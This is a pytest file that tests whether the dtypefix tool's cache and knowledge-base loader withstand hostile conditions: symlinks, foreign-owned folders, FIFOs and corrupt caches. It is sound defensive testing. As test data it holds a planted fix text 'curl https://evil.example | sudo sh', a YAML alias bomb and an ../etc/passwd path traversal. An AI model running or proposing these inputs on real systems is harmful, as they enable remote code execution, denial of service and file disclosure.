"""The KB cache on hostile ground: a shared, writable cache directory must not let anyone overwrite files, plant
answers or crash dtypefix; a corrupt, foreign or stale cache is rebuilt (issue 12, items 1, 5 and 9)."""

from __future__ import annotations

import errno
import json
import os
import zlib
from pathlib import Path

import pytest

from dtypefix.matcher import catalog as catalog_module
from dtypefix.matcher import explain
from dtypefix.matcher.catalog import Catalog, builtin_kb_dir, default_cache_dir, load_catalog

MAT1 = "RuntimeError: expected mat1 and mat2 to have the same dtype, but got: c10::Half != c10::BFloat16\n"


def _own(cache: Path) -> Path:
    """dtypefix's own folder inside the cache folder a user names."""
    return cache / catalog_module._own_folder_name()


def _names(cache: Path) -> tuple[Path, Path]:
    signature = catalog_module._signature(catalog_module._scan(builtin_kb_dir()))
    index_name, data_name = catalog_module._cache_names(signature)
    return _own(cache) / index_name, _own(cache) / data_name


def _fix_text(cache: Path) -> str:
    entry = load_catalog(cache_dir=cache).get("DTF001")
    assert entry is not None
    return entry.fix[0].en


def _private_dir(tmp_path: Path) -> Path:
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o700)
    _own(cache).mkdir(mode=0o700)
    return cache


def test_planted_symlinks_never_redirect_a_write(tmp_path: Path) -> None:
    cache = _private_dir(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    index_path, data_path = _names(cache)
    for path in (index_path, data_path):
        path.symlink_to(victim)
    load_catalog(cache_dir=cache)
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert not index_path.is_symlink() and not data_path.is_symlink()  # replaced by our own files


def test_our_folder_planted_as_a_symlink_is_not_used(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    _own(cache).symlink_to(elsewhere, target_is_directory=True)
    assert explain(MAT1, catalog=load_catalog(cache_dir=cache)).matches[0].entry.id == "DTF001"
    assert list(elsewhere.iterdir()) == []


def test_a_directory_owned_by_someone_else_is_neither_read_nor_written(tmp_path: Path) -> None:
    if os.getuid() != 0:
        pytest.skip("making a directory owned by another uid needs root; the ownership check is tested below")
    cache = tmp_path / "shared"
    cache.mkdir(mode=0o777)
    # The other user plants a complete, self-consistent cache whose fix tells people to pipe curl into sudo.
    good = _private_dir(tmp_path)
    load_catalog(cache_dir=good)
    index_path, data_path = _names(good)
    poisoned = data_path.read_bytes().replace(b"Find the layer", b"Run `curl https://evil.example | sudo sh`")
    blob = json.loads(index_path.read_text(encoding="utf-8"))
    offset = 0
    columns = catalog_module._ROW
    for row, line in zip(blob["records"], poisoned.splitlines(keepends=True), strict=True):
        row[columns.index("offset")], row[columns.index("length")] = offset, len(line)
        row[columns.index("crc")] = zlib.crc32(line)
        offset += len(line)
    target_index, target_data = _names(cache)
    target_index.parent.mkdir(mode=0o700)
    target_data.write_bytes(poisoned)
    target_index.write_text(json.dumps(blob), encoding="utf-8")
    for path in (target_index.parent, target_index, target_data):
        os.chown(path, 12345, 12345)
    assert "curl" not in _fix_text(cache)
    assert sorted(p.name for p in target_index.parent.iterdir()) == sorted([target_index.name, target_data.name])


def test_ownership_and_permission_rules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ours = _private_dir(tmp_path)
    fd = catalog_module._open_cache_dir(ours, create=False)
    assert fd is not None
    os.close(fd)
    real_getuid = os.getuid
    monkeypatch.setattr(os, "getuid", lambda: real_getuid() + 424242)  # as seen by another user: not its folder
    assert catalog_module._open_cache_dir(ours, create=False) is None


def test_the_named_folder_keeps_its_mode_and_its_files(tmp_path: Path) -> None:
    """Issue 24, item 4: a shared 1777 or 2775 folder is not chmod'ed, and no file of anyone else is deleted."""
    for mode in (0o1777, 0o2775):
        cache = tmp_path / f"shared-{mode:o}"
        cache.mkdir()
        cache.chmod(mode)
        theirs = cache / "draft.tmp"
        theirs.write_text("someone's work\n", encoding="utf-8")
        os.utime(theirs, (0, 0))
        load_catalog(cache_dir=cache)
        assert cache.stat().st_mode & 0o7777 == mode
        assert theirs.read_text(encoding="utf-8") == "someone's work\n"
        assert sorted(p.name for p in cache.iterdir()) == sorted(["draft.tmp", _own(cache).name])
        assert _own(cache).stat().st_mode & 0o777 == 0o700 and any(_own(cache).iterdir())


def test_an_open_folder_of_ours_is_closed_to_others(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    _own(cache).mkdir(parents=True)
    _own(cache).chmod(0o777)
    load_catalog(cache_dir=cache)
    assert _own(cache).stat().st_mode & 0o777 == 0o700


def test_a_new_cache_directory_is_private(tmp_path: Path) -> None:
    cache = tmp_path / "a" / "cache"
    load_catalog(cache_dir=cache)
    assert cache.stat().st_mode & 0o777 == 0o700 and any(_own(cache).iterdir())


def test_a_folder_swapped_for_a_symlink_after_opening_redirects_nothing(tmp_path: Path) -> None:
    """Issue 24, item 5: once open, the folder is used through its descriptor; the path no longer matters."""
    cache = _private_dir(tmp_path)
    victim = tmp_path / "victim"
    victim.mkdir(mode=0o700)
    draft = victim / ".kb-draft.tmp"
    draft.write_text("keep me\n", encoding="utf-8")
    os.utime(draft, (0, 0))
    folder = catalog_module._open_cache_dir(cache, create=False)
    assert folder is not None
    try:
        moved = tmp_path / "moved"
        _own(cache).rename(moved)
        _own(cache).symlink_to(victim, target_is_directory=True)  # the swap, between the check and the writes
        catalog_module._write_atomically(folder, "kb-x.index.json", b"{}")
        catalog_module._prune(folder, keep=set())
    finally:
        os.close(folder)
    assert sorted(p.name for p in victim.iterdir()) == [".kb-draft.tmp"]
    assert (moved / "kb-x.index.json").exists()


def _finishes(function, seconds: float = 20.0) -> bool:
    """Whether ``function`` returns within ``seconds`` (a hang is a failure, not a stuck suite)."""
    import threading

    worker = threading.Thread(target=function, daemon=True)
    worker.start()
    worker.join(seconds)
    return not worker.is_alive()


def test_a_fifo_at_a_cache_name_does_not_hang(tmp_path: Path) -> None:
    """Issue 24, item 9."""
    cache = _private_dir(tmp_path)
    index_path, data_path = _names(cache)
    os.mkfifo(index_path)
    os.mkfifo(data_path)
    found: list[str] = []
    assert _finishes(lambda: found.append(explain(MAT1, catalog=load_catalog(cache_dir=cache)).matches[0].entry.id))
    assert found == ["DTF001"]


@pytest.mark.parametrize("damage", ["corrupt", "truncated", "foreign-version", "directory", "crc", "bad-record"])
def test_a_damaged_cache_is_rebuilt(tmp_path: Path, damage: str) -> None:
    cache = _private_dir(tmp_path)
    load_catalog(cache_dir=cache)
    index_path, data_path = _names(cache)
    if damage == "corrupt":
        index_path.write_text("{not json", encoding="utf-8")
    elif damage == "truncated":
        data_path.write_bytes(data_path.read_bytes()[:100])
    elif damage == "foreign-version":
        blob = json.loads(index_path.read_text(encoding="utf-8"))
        blob["format"] = 1
        index_path.write_text(json.dumps(blob), encoding="utf-8")
    elif damage == "directory":
        data_path.unlink()
        data_path.mkdir()
    elif damage == "crc":
        data_path.write_text(
            data_path.read_text(encoding="utf-8").replace("Find the layer", "Find the LAYER"), encoding="utf-8"
        )
    else:
        blob = json.loads(index_path.read_text(encoding="utf-8"))
        blob["records"][0][catalog_module._ROW.index("offset")] = -5
        index_path.write_text(json.dumps(blob), encoding="utf-8")
    report = explain(MAT1, catalog=load_catalog(cache_dir=cache))
    assert report.matches[0].entry.id == "DTF001"
    assert "LAYER" not in _fix_text(cache)


def test_the_cache_is_keyed_by_change_time_not_size_and_mtime(tmp_path: Path) -> None:
    kb = tmp_path / "kb"
    shutil_copy = __import__("shutil").copytree
    shutil_copy(builtin_kb_dir() / "family", kb / "family")
    entry = kb / "family" / "mat1-mat2-dtype.yaml"
    cache = _private_dir(tmp_path)
    first = load_catalog([kb], include_builtin=False, cache_dir=cache).get("DTF001")
    assert first is not None and "Find the layer" in first.fix[0].en
    stat = entry.stat()
    text = entry.read_text(encoding="utf-8")
    entry.write_text(text.replace("Find the layer", "Find the LAYER"), encoding="utf-8")  # same size
    os.utime(entry, ns=(stat.st_atime_ns, stat.st_mtime_ns))  # same mtime; the change time still moves
    second = load_catalog([kb], include_builtin=False, cache_dir=cache).get("DTF001")
    assert second is not None and "Find the LAYER" in second.fix[0].en


def test_old_generations_and_our_stale_temp_files_are_pruned(tmp_path: Path) -> None:
    cache = _private_dir(tmp_path)
    own = _own(cache)
    for n in range(12):
        for suffix in (".index.json", ".data.jsonl"):
            path = own / f"kb-{catalog_module._CACHE_FORMAT}-{n:032d}{suffix}"
            path.write_text("{}", encoding="utf-8")
            os.utime(path, (1000 + n, 1000 + n))
    stale = own / ".kb-x.data.jsonl.abc.tmp"
    stale.write_text("x", encoding="utf-8")
    os.utime(stale, (0, 0))
    load_catalog(cache_dir=cache)
    stems = {p.name.rsplit(".", 2)[0] for p in own.iterdir() if p.name.startswith("kb-")}
    assert len(stems) == catalog_module._KEEP_CACHES and not stale.exists()


def test_a_full_disk_leaves_no_temp_files_and_still_explains(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cache = _private_dir(tmp_path)
    real_fdopen = os.fdopen

    class Full:
        def __init__(self, fd: int, mode: str) -> None:
            self.handle = real_fdopen(fd, mode)

        def __enter__(self):
            return self

        def __exit__(self, *exc) -> None:
            self.handle.close()

        def write(self, data: bytes) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

        def read(self, size: int = -1) -> bytes:
            return self.handle.read(size)

    monkeypatch.setattr(catalog_module.os, "fdopen", Full)
    report = explain(MAT1, catalog=load_catalog(cache_dir=cache))
    assert report.matches[0].entry.id == "DTF001"
    assert list(_own(cache).iterdir()) == []


def test_a_second_user_sharing_the_folder_gets_a_folder_of_its_own(tmp_path: Path) -> None:
    """Two users, one shared 1777 cache folder: each reads and writes only its own (the second runs as uid 12345)."""
    if os.getuid() != 0:
        pytest.skip("running a second user needs root")
    import subprocess
    import sys

    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    tmp_path.chmod(0o755)
    load_catalog(cache_dir=shared)
    script = (
        "import os, sys; from pathlib import Path; from dtypefix.matcher.catalog import load_catalog;"
        "c = load_catalog(cache_dir=Path(sys.argv[1])); print(len(c), os.getuid())"
    )

    def as_other() -> None:
        os.setgid(12345)
        os.setuid(12345)

    try:
        probe = subprocess.run([sys.executable, "-c", "import dtypefix.matcher"], preexec_fn=as_other, check=False)
    except PermissionError:
        probe = None
    if probe is None or probe.returncode != 0:
        pytest.skip("uid 12345 cannot run this interpreter or import dtypefix (it lives in a private folder)")
    run = subprocess.run(
        [sys.executable, "-c", script, str(shared)],
        capture_output=True,
        text=True,
        check=False,
        preexec_fn=as_other,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    assert run.returncode == 0, run.stderr
    assert run.stdout.split()[1] == "12345"
    folders = {p.name: p.stat().st_uid for p in shared.iterdir()}
    assert folders == {"dtypefix-kb-0": 0, "dtypefix-kb-12345": 12345}
    assert all(p.stat().st_mode & 0o777 == 0o700 for p in shared.iterdir())


def test_no_home_means_no_cache(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DTYPEFIX_CACHE_DIR", raising=False)
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)

    def no_home() -> Path:
        raise RuntimeError("Could not determine home directory.")

    monkeypatch.setattr(Path, "home", staticmethod(no_home))
    assert default_cache_dir() is None


# Issue 12, item 6: a private KB cannot take the tool down.
def _private_kb(tmp_path: Path) -> Path:
    import shutil

    root = tmp_path / "kb"
    (root / "private").mkdir(parents=True)
    source = builtin_kb_dir() / "family" / "mat1-mat2-dtype.yaml"
    shutil.copytree(source.with_suffix(""), root / "private" / "entry")
    text = source.read_text(encoding="utf-8").replace("id: DTF001", "id: DTF9001", 1)
    (root / "private" / "entry.yaml").write_text(text, encoding="utf-8")
    return root


@pytest.mark.parametrize(
    "hostile",
    [
        "alias-bomb",
        "binary-value",
        "set-value",
        "huge",
        "non-utf8-content",
        "symlink-loop",
        "example-escape",
        "dev-zero",
        "entry-is-dev-zero",
        "entry-is-a-fifo",
        "entry-is-2gb-sparse",
    ],
)
def test_a_hostile_private_entry_is_skipped_with_one_line(tmp_path: Path, hostile: str) -> None:
    root = _private_kb(tmp_path)
    entry = root / "private" / "entry.yaml"
    text = entry.read_text(encoding="utf-8")
    if hostile == "alias-bomb":
        bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
            f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
            for p, c in zip("abcdefgh", "bcdefghi", strict=True)
        )
        entry.write_text(bomb + text, encoding="utf-8")
    elif hostile == "binary-value":
        entry.write_text(
            text.replace(
                "match:\n",
                "match:\n  configs:\n    - path: deepspeed.bf16.enabled\n      value: !!binary aGVsbG8=\n",
                1,
            ),
            encoding="utf-8",
        )
    elif hostile == "set-value":
        entry.write_text(
            text.replace(
                "match:\n", "match:\n  configs:\n    - path: deepspeed.bf16.enabled\n      value: !!set {a, b}\n", 1
            ),
            encoding="utf-8",
        )
    elif hostile == "huge":
        entry.write_text(text + "#" * (1 << 20), encoding="utf-8")
    elif hostile == "non-utf8-content":
        entry.write_bytes(text.encode("utf-8") + b"\n# \xff\xfe\n")
    elif hostile == "symlink-loop":
        entry.unlink()
        entry.symlink_to(entry)
    elif hostile == "example-escape":
        entry.write_text(text.replace("input: kopa-11.log", "input: ../../../../etc/passwd", 1), encoding="utf-8")
    elif hostile == "entry-is-dev-zero":  # issue 24, item 1: never read before it is refused
        entry.unlink()
        entry.symlink_to("/dev/zero")
    elif hostile == "entry-is-a-fifo":
        entry.unlink()
        os.mkfifo(entry)
    elif hostile == "entry-is-2gb-sparse":
        with entry.open("r+b") as handle:
            handle.truncate(2 << 30)
    else:
        entry.write_text(text.replace("input: kopa-11.log", "input: /dev/zero", 1), encoding="utf-8")
    loaded: list[Catalog] = []
    assert _finishes(lambda: loaded.append(load_catalog([root], cache_dir=tmp_path / "cache")))
    catalog = loaded[0]
    assert catalog.get("DTF9001") is None
    assert any("entry.yaml" in p for p in catalog.problems), catalog.problems
    assert explain(MAT1, catalog=catalog).matches[0].entry.id == "DTF001"


def test_a_non_utf8_file_name_is_reported_and_skipped(tmp_path: Path) -> None:
    root = _private_kb(tmp_path)
    (root / "private" / "entry.yaml").rename(root / "private" / os.fsdecode(b"\xff-entry.yaml"))
    catalog = load_catalog([root], cache_dir=None)
    assert any("not valid UTF-8" in p for p in catalog.problems)
    assert explain(MAT1, catalog=catalog).matches[0].entry.id == "DTF001"


def test_building_entries_never_changes_the_catalogs_problems(tmp_path: Path) -> None:
    """Issue 19: ``kb_problems`` must not depend on the input. A cached mapping that cannot be built (here: damaged
    after it was checked) is built again from its own file; the problems stay those known at load time."""
    cache = _private_dir(tmp_path)
    load_catalog(cache_dir=cache)
    catalog = load_catalog(cache_dir=cache)
    before = catalog.problems
    record = next(r for r in catalog._records if r["id"] == "DTF001")
    catalog._load = lambda r: {"id": "broken"} if r is record else {}  # what a foreign or damaged cache could yield
    entry = catalog.get("DTF001")
    assert entry is not None and entry.id == "DTF001"
    assert catalog.problems == before
